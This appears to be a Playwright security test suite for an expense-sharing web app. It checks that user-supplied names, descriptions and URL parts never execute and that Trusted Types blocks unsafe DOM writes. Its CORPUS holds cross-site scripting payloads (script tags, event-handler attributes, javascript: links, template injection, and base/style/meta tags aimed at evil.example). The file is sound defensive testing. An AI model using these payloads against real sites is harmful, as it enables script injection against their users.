import { expect, type Page, test } from '@playwright/test';
import { load } from './support/load.ts';
import { call, createGroup, createPerson, resumeAs } from './support/people.ts';
import { letIn, recordExpense } from './support/sample.ts';

/** Each would call `ranHere` if it were taken for anything but text. At most 100 characters: names take no more. */
const CORPUS = [
  '<script>ranHere(1)</script>',
  '</script><script>ranHere(1)</script>',
  '<img src=x onerror=ranHere(1)>',
  '"><svg onload=ranHere(1)>',
  "'-ranHere(1)-'",
  '<a href="javascript:ranHere(1)">a link</a>',
  'javascript:ranHere(1)',
  '<iframe srcdoc="<script>parent.ranHere(1)</script>"></iframe>',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '&lt;script&gt;ranHere(1)&lt;/script&gt;',
  "{{constructor.constructor('ranHere(1)')()}}",
  '${ranHere(1)}',
  '<details open ontoggle=ranHere(1)>',
  '<form><button formaction=javascript:ranHere(1)>x',
] as const;

interface Watch {
  ran: string[];
  violations: string[];
}

/** Listens for scripts that run, boxes that open, navigation away, and violations of the page's policy. */
async function watch(page: Page): Promise<Watch> {
  const seen: Watch = { ran: [], violations: [] };
  await page.exposeFunction('ranHere', (what: unknown) => void seen.ran.push(String(what)));
  await page.exposeFunction('violatedHere', (what: string) => void seen.violations.push(what));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      const { violatedHere } = window as { violatedHere?: (what: string) => void };
      violatedHere?.(`${violatedDirective} ${blockedURI}`);
    });
  });
  page.on('dialog', (dialog) => {
    seen.ran.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (new URL(request.url()).hostname === 'evil.example') seen.ran.push(`request ${request.url()}`);
  });
  return seen;
}

/** Leads to an address within the app, as a link of ours does, until its screen is drawn. */
async function follow(page: Page, address: string): Promise<void> {
  await page.evaluate(async (to) => {
    history.pushState({}, '', to);
    dispatchEvent(new PopStateEvent('popstate', { state: {} }));
    for (let frame = 0; frame < 2; frame += 1) await new Promise(requestAnimationFrame);
  }, address);
}

async function expectShown(page: Page, texts: readonly string[]): Promise<void> {
  for (const text of texts) await expect(page.getByText(text).first()).toBeAttached();
}

test('nothing that people write runs, and all of it is shown as it was written', async ({ page }) => {
  test.setTimeout(240_000);
  const [adaName, benName] = [CORPUS[2], CORPUS[3]];
  const [ada, ben] = [await createPerson('Ada'), await createPerson('Ben')];
  for (const [person, name] of [
    [ada, adaName],
    [ben, benName],
  ] as const) {
    await call('updateName', { token: person.token, body: { name } });
    person.name = name;
  }
  const groups: number[] = [];
  for (const name of CORPUS) groups.push(await createGroup(ada, name));
  const [groupId = 0] = groups;
  await letIn(groupId, ada, ben);
  const expenses: number[] = [];
  for (const description of CORPUS) {
    const expense = { description, total: 10, paid: [[ada, 10]], shares: [[ben, 10]] } satisfies Parameters<
      typeof recordExpense
    >[2];
    expenses.push(await recordExpense(groupId, ada, expense));
  }

  const seen = await watch(page);
  await resumeAs(page, ada);
  await load(page, '/');
  await load(page, '/groups');
  await expectShown(page, CORPUS);
  await load(page, `/groups/${String(groupId)}`);
  await expectShown(page, [...CORPUS, benName]);
  await page.getByRole('button', { name: 'Add Expense' }).first().click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await load(page, '/expenses');
  await expectShown(page, CORPUS);
  for (const [index, id] of expenses.entries()) {
    await follow(page, `/expenses/${String(id)}`);
    await expect(page.getByRole('heading', { name: CORPUS[index] ?? '', level: 1 })).toBeVisible();
  }
  await page.getByRole('button', { name: 'Edit Expense' }).click();
  await expect(page.getByRole('dialog')).toBeVisible();
  await load(page, '/profile');
  await expect(page.locator('body')).toContainText('onerror');
  expect(seen).toEqual({ ran: [], violations: [] });
});

/** Loads a kind of address with all texts in it, and goes on within the app with each text alone. */
async function tryAddresses(
  page: Page,
  texts: readonly string[],
  addressOf: (part: string) => string,
): Promise<void> {
  await load(page, addressOf(encodeURIComponent(texts.join(' '))));
  for (const text of texts) await follow(page, addressOf(encodeURIComponent(text)));
}

test('nothing in an address runs, signed in or out', async ({ page }) => {
  const seen = await watch(page);
  for (const addressOf of [
    (part: string) => `/login?next=${part}&${part}#${part}`,
    (part: string) => `/reset-password/${part}`,
    (part: string) => `/invite/${part}`,
  ])
    await tryAddresses(page, CORPUS.slice(0, 8), addressOf);
  await resumeAs(page, await createPerson('Ada'));
  for (const addressOf of [
    (part: string) => `/groups?q=${part}`,
    (part: string) => `/groups/${part}`,
    (part: string) => `/expenses?sort=${part}&group=${part}`,
  ])
    await tryAddresses(page, CORPUS.slice(0, 8), addressOf);
  expect(seen).toEqual({ ran: [], violations: [] });
});

test('no script of the page makes markup of text or loads a script by an address of its own', async ({
  page,
}) => {
  await resumeAs(page, await createPerson('Ada'));
  await load(page, '/groups');
  const refusals = await page.evaluate(() => {
    const attempts: Record<string, () => void> = {
      markup: () => (document.body.innerHTML = '<img src="x">'),
      'inserted markup': () => {
        document.body.insertAdjacentHTML('beforeend', '<img src="x">');
      },
      'script by address': () => (document.createElement('script').src = 'https://evil.example/x.js'),
      'policy of another name': () => window.trustedTypes?.createPolicy('evil', { createScriptURL: String }),
    };
    return Object.entries(attempts).filter(([, attempt]) => {
      try {
        attempt();
        return false;
      } catch (error) {
        return error instanceof TypeError;
      }
    });
  });
  expect(refusals.map(([what]) => what)).toEqual([
    'markup',
    'inserted markup',
    'script by address',
    'policy of another name',
  ]);
});
